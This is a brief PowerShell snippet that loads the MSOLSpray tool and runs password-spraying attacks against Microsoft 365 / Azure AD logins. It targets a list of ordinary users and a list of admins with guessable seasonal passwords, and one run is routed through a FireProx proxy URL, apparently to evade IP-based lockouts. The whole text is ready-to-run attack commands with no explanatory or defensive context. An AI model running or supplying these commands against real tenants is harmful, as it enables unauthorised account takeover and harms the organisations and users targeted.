Import-Module .\MSOLSpray.ps1
Invoke-MSOLSpray -UserList "C:\Temp\users.txt" -Password "Winter2024!" -URL "https://fireprox.example.net/fireprox/common/oauth2/token"
Invoke-MSOLSpray -UserList "C:\Temp\admins.txt" -Password "Spring2025!" -URL "https://login.microsoftonline.com"
